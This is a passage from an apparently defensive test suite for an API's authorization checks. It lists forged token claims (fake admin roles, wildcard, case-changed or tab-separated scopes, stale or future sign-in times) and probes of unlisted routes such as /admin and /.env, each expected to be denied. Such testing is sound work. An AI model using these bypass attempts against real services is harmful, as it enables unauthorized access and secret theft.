        "roles for groups": ({"groups": [], "cognito:roles": ["admin"], "roles": ["admin"], "role": "admin"}, "not_permitted"),
        "groups of another claim": ({"groups": [], "custom:groups": ["admin"], "Cognito:Groups": ["admin"]}, "not_permitted"),
        "another scope": ({"groups": [], "scope": "heartmap/config:read"}, "not_permitted"),
        "a scope of another server": (
            {"groups": [], "scope": "other/config:write config:write heartmap:config:write"},
            "not_permitted",
        ),
        "scopes in another case": ({"groups": [], "scope": "HEARTMAP/config:write heartmap/Config:write"}, "not_permitted"),
        "scopes with other signs between": (
            {"groups": [], "scope": "openid,heartmap/config:write\theartmap/config:write\n"},
            "not_permitted",
        ),
        "a scope with a star": ({"groups": [], "scope": "heartmap/* heartmap/config:* *"}, "not_permitted"),
        "a group as scope": ({"groups": [], "scope": "admin heartmap/admin"}, "not_permitted"),
        "a scope as group": ({"groups": ["config:write", "heartmap/config:write"]}, "not_permitted"),
        "no sign-in": ({"auth_time": ...}, "sign_in_too_old"),
        "a sign-in 15 minutes and a second ago": ({"auth_time": -901}, "sign_in_too_old"),
        "a sign-in an hour ago": ({"auth_time": -3600}, "sign_in_too_old"),
        "a sign-in at the epoch": ({"auth_time": -(10**12)}, "sign_in_too_old"),
        "a sign-in in a minute": ({"auth_time": 61}, "sign_in_too_old"),
        "a sign-in in a year": ({"auth_time": 31536000}, "sign_in_too_old"),
        "a program's token without a sign-in": (
            {"groups": [], "scope": "heartmap/config:write", "auth_time": ...},
            "sign_in_too_old",
        ),
    }
    for name, (changes, reason) in tokens.items():

        def build(world: World, changes: dict[str, Any] = changes) -> Any:
            moment = changes.get("auth_time", 0)
            return world.bearer(world.token(**changes | {"auth_time": moment if moment is ... else max(0, world.now + moment)}))

        yield Attack("token", f"the configuration, with {name}", build, DENY, reason)
    for method, route in (
        ("PUT", "/config"),
        ("DELETE", "/config"),
        ("PATCH", "/config"),
        ("OPTIONS", "/config"),
        ("HEAD", "/config"),
        ("TRACE", "/config"),
    ):
        yield Attack("token", f"{method} {route}, which is no route", _asking(method, route), DENY, "no_such_route")
    for route in (
        "/token",
        "/docs",
        "/openapi.json",
        "/admin",
        "/config/x",
        "/internal",
        "/keys/x/y",
        "/metrics",
        "/.env",
        "/{proxy}",
    ):
        yield Attack("token", f"POST {route}, which is no route", _asking("POST", route), DENY, "no_such_route|id_malformed")


def _asking(method: str, route: str) -> Build:
    def build(world: World) -> Any:
        event = world.event(f"Bearer {world.token()}", method=method, route=route.replace("{proxy}", "x"))
        event["resource"] = event["requestContext"]["resourcePath"] = route
        if "{" in route:
            event["pathParameters"] = {"proxy": "x"}
        return event

    return build
